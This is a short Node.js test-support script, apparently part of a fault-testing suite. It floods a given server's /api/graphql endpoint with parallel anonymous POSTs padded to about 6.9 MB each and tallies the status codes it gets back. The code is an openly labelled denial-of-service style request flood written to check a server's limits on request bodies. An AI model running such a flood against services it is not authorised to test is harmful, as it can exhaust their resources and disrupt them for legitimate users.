// The attack run's finding 1, as its own process (so its sockets and CPU are not the prober's):
// `parallel` anonymous POSTs of `bytes` each to /api/graphql, one after the other on each lane,
// until SIGTERM; then prints one JSON line of what the server answered.
// Usage: node faults/support/body-attack.mjs <baseUrl> <parallel> <bytes>
import http from 'node:http';

const [baseUrl, parallel = '4', bytes = String(Math.round(6.9 * 1024 * 1024))] = process.argv.slice(2);
const url = new URL('/api/graphql', baseUrl);
const head = '{"query":"{ getCategories { id title } }","variables":{"pad":"';
const tail = '"}}';
const body = Buffer.concat([Buffer.from(head), Buffer.alloc(Number(bytes) - head.length - tail.length, 'x'), Buffer.from(tail)]);
const seen = {};
let stopping = false;

function post() {
  return new Promise((resolve) => {
    const req = http.request(url, { method: 'POST', headers: { 'content-type': 'application/json', 'content-length': body.length }, agent: false }, (res) => {
      res.resume();
      res.on('end', () => resolve(String(res.statusCode)));
      res.on('error', () => resolve('reset'));
    });
    // A server that answers before reading everything may close the socket under the upload.
    req.on('error', () => resolve('reset'));
    req.end(body);
  });
}

async function lane() {
  while (!stopping) {
    const outcome = await post();
    seen[outcome] = (seen[outcome] ?? 0) + 1;
  }
}

process.on('SIGTERM', () => {
  stopping = true;
  console.log(JSON.stringify(seen));
  process.exit(0);
});
console.log('attacking');
for (let i = 0; i < Number(parallel); i++) void lane();
